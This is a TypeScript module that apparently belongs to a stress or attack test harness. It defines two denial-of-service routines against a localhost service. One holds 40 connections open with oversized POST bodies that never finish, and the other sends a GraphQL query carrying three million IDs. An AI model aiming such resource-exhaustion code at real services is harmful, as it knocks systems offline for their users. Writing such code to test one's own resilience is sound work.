import type { Attacker } from './attack.js';

const CONNECTIONS = 40;
const SENT_BYTES = 31 * 2 ** 20;
const ANNOUNCED_BYTES = 32 * 2 ** 20;

/** Bodies of which the end never comes; a connection that is cut is opened again. */
export function holdBodies(attacker: Attacker): void {
  const { token } = attacker.target;
  const part = Buffer.alloc(SENT_BYTES, ' ');
  const head = [
    'POST /api/v1/pings/ HTTP/1.1',
    'Host: localhost',
    `Authorization: Token ${token}`,
    'Content-Type: application/json',
    `Content-Length: ${ANNOUNCED_BYTES}`,
  ];
  const open = () => {
    const socket = attacker.connect(() => {
      socket.write(`${head.join('\r\n')}\r\n\r\n`);
      socket.write(part);
    });
    socket.once('data', (answer) => attacker.count(String(answer).slice(9, 12)));
    socket.once('close', () => setTimeout(open, 100));
  };
  for (let client = 0; client < CONNECTIONS; client++) open();
}

/** Lists that are far longer than any operation takes. */
export function longBodies(attacker: Attacker): void {
  const ids = Array.from({ length: 3_000_000 }, (_, index) => index);
  const query = 'query($ids: [ID!]) { flowSensors(filter: { ids: $ids }) { totalCount } }';
  const body = JSON.stringify({ query, variables: { ids } });
  attacker.repeat(1, () => attacker.send({ path: '/graphql', body }));
}
